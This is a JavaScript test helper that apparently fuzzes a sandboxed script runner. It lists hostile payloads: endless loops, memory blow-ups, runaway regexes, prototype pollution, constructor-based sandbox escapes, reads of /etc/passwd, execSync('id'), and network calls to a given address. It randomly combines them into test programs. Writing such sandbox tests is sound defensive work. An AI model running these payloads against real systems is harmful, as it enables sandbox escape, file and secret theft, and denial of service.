/*
 * What those would write who mean harm: loops that no fuel is taken for, all of the memory, the whole stack, patterns that
 * explode, answers without end, ways out of the realm, and ways to what lies on the host.
 */

/** The statements of each, to be run as a function. `address` is where they call. */
export function payloadsTo(address) {
  const to = JSON.stringify(address);
  return [
    'for (;;);',
    'while (true) { [1].map((n) => n); }',
    'let all = "a"; for (;;) all += all;',
    'const all = []; for (;;) all.push(new Array(1e5).fill(1));',
    'let all = [1]; for (;;) all = all.concat(all);',
    'const all = []; for (;;) all.push(new Uint8Array(1e6));',
    'new Uint8Array(4e9);',
    'new ArrayBuffer(2 ** 31);',
    '"a".repeat(2 ** 29);',
    '"a".padEnd(2 ** 29);',
    'const fall = () => [fall()]; fall();',
    'let deep = []; for (let n = 0; n < 1e5; n++) deep = [deep]; return deep;',
    'let deep = []; for (let n = 0; n < 1e5; n++) deep = [deep]; JSON.stringify(deep);',
    'JSON.parse("[".repeat(1e6));',
    '/^(a+)+$/.test("a".repeat(60) + "!");',
    '/(x+x+)+y/.exec("x".repeat(64));',
    '/(.*)*(.*)*(.*)*!/.test("a".repeat(99));',
    'for (const key of Object.getOwnPropertyNames(globalThis)) globalThis[key] = undefined;',
    'return "x".repeat(5e6);',
    'return Array.from({ length: 1e6 }, (_, n) => n);',
    'const round = {}; round.own = round; return round;',
    'return { toJSON() { for (;;); } };',
    'return { get value() { throw { get message() { for (;;); } }; } };',
    'throw { name: "Failure", code: "MATCH_LOST", message: "x".repeat(1e6) };',
    'throw null;',
    'Object.prototype.toJSON = () => "polluted";',
    'JSON.stringify = () => "[]";',
    'Array.prototype[Symbol.iterator] = function* () { for (;;) yield 1; };',
    'Object.defineProperty(globalThis, "parse", { get() { for (;;); } });',
    'return globalThis.process.env.TAPETE_CANARY;',
    'return process.mainModule.require("fs").readFileSync("/etc/passwd", "utf8");',
    'return require("child_process").execSync("id").toString();',
    `return fetch(${to});`,
    `new WebSocket(${to});`,
    `new XMLHttpRequest().open("GET", ${to});`,
    `import(${to});`,
    'import("node:fs").then((fs) => fs.writeFileSync("canary", "x"));',
    'return (() => {}).constructor("return process")();',
    'return (function* () {}).constructor("yield process")().next();',
    'return (async () => {}).constructor("return process")();',
    'return Reflect.construct(Function, ["return process"])();',
    'return [].constructor.constructor("return process")();',
    'return this.constructor.constructor("return process")();',
    'try { null.x } catch (error) { return error.constructor.constructor("return process")(); }',
    'try { (function fall() { fall(); })() } catch (error) { return error.constructor.constructor("return process")(); }',
    'Error.prepareStackTrace = (_, frames) => frames[0].getThis(); return new Error().stack;',
    'return new Proxy({}, { get: (_, key) => key }).process;',
    'const { proxy, revoke } = Proxy.revocable({}, {}); revoke(); return proxy.x;',
    'return eval("process");',
    'return (0, eval)("this").process;',
    'return globalThis.std.getenv("TAPETE_CANARY");',
    'return globalThis.os.exec(["id"]);',
    'return scriptArgs;',
    'return __loadScript("/etc/passwd");',
    'setTimeout(() => { for (;;); }, 0);',
    'queueMicrotask(() => { for (;;); });',
    'Promise.resolve().then(() => { for (;;); });',
    '(async () => { for (;;) await 0; })();',
    'new Worker("data:text/javascript,for(;;);");',
    'return new SharedArrayBuffer(8);',
    'Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0);',
    'return WebAssembly.instantiate(new Uint8Array(8));',
    'return [Date.now(), performance.now(), Math.random()];',
    'new FinalizationRegistry(() => {}).register({}, 1);',
    'return new WeakRef({}).deref();',
    'const all = new Map(); for (let n = 0; ; n++) all.set({}, n);',
    'let all = 1n; for (;;) all = all * all + 3n;',
    'return (2n ** 100000000n).toString().length;',
    'return Array(2 ** 32 - 1).join("x");',
    'const list = []; list.length = 2 ** 32 - 1; list.sort();',
    'return [..."a".repeat(1e7)].reverse().join("");',
    'Symbol.prototype.toString = () => { for (;;); }; return String(Symbol.iterator);',
  ];
}

/** Some of the payloads one behind the other, in blocks, catches and loops. */
export function programOf(payloads, chance) {
  return Array.from({ length: 1 + chance.int(4) }, () => {
    const part = `(() => { ${payloads[chance.int(payloads.length)]} })();`;
    const kind = chance.int(3);
    if (kind === 0) return `{ ${part} }`;
    if (kind === 1) return `try { ${part} } catch {}`;
    return `for (let again = 0; again < ${1 + chance.int(3)}; again++) { try { ${part} } finally {} }`;
  }).join('\n');
}
